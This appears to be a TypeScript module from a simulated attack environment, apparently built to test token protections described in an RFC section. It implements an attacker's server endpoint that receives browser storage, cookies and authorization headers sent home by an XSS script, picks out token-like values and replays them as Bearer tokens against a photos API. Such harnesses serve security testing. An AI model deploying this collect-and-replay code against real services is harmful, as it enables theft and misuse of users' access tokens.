import type { AttackerPage } from '../environment'
import type { Loot } from '../xss-script/plunder'

/** Bytes of a report that are read, and how many values of it are tried. */
const LIMIT = 32 * 1024
const MOST_TRIED = 8

/**
 * `POST /loot`: takes what the script sent home and tries every value of it at the API, from the attacker's own server:
 * only what works there, far from the victim's browser, was a token (RFC 10017, section 5.2.2).
 */
export const loot: AttackerPage = async (request, { origins, fetch }) => {
  for (const value of candidates(readLoot((await request.text()).slice(0, LIMIT)))) {
    const headers = { accept: 'application/json', authorization: `Bearer ${value}` }
    await fetch(new Request(`${origins.resource}/photos`, { headers }))
  }
  return new Response(null, { status: 204, headers: { 'access-control-allow-origin': '*' } })
}

function readLoot(text: string): Partial<Loot> {
  try {
    return Object(JSON.parse(text))
  } catch {
    return {}
  }
}

function candidates({ sessionStorage, localStorage, cookies, authorization }: Partial<Loot>): string[] {
  const bearer = String(authorization ?? '').replace(/^Bearer /, '')
  const values = [sessionStorage, localStorage, cookies, [bearer]].flatMap((list) => (Array.isArray(list) ? list : []))
  const sendable = values.filter((value) => typeof value === 'string' && /^[\w.~+/=-]+$/.test(value))
  return [...new Set(sendable)].slice(0, MOST_TRIED)
}
